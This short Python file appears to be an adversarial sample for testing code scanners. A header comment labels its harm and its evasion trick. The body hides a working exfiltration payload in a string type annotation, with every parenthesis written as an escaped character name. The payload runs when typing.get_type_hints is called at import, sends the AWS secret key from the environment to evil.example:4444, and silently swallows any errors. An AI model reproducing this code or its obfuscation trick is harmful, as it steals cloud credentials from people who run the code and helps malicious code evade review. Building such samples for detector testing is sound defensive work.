# harm: sends AWS_SECRET_ACCESS_KEY over a socket ; trick: the parentheses in the string annotation are written as \N{...} escapes, so the text holds no "("
import typing


def handler(x: "__import__\N{LEFT PARENTHESIS}'socket'\N{RIGHT PARENTHESIS}.create_connection\N{LEFT PARENTHESIS}\N{LEFT PARENTHESIS}'evil.example',4444\N{RIGHT PARENTHESIS}\N{RIGHT PARENTHESIS}.sendall\N{LEFT PARENTHESIS}__import__\N{LEFT PARENTHESIS}'os'\N{RIGHT PARENTHESIS}.environ.get\N{LEFT PARENTHESIS}'AWS_SECRET_ACCESS_KEY',''\N{RIGHT PARENTHESIS}.encode\N{LEFT PARENTHESIS}\N{RIGHT PARENTHESIS}\N{RIGHT PARENTHESIS}") -> None:
    pass


try:
    typing.get_type_hints(handler)
except Exception:
    pass
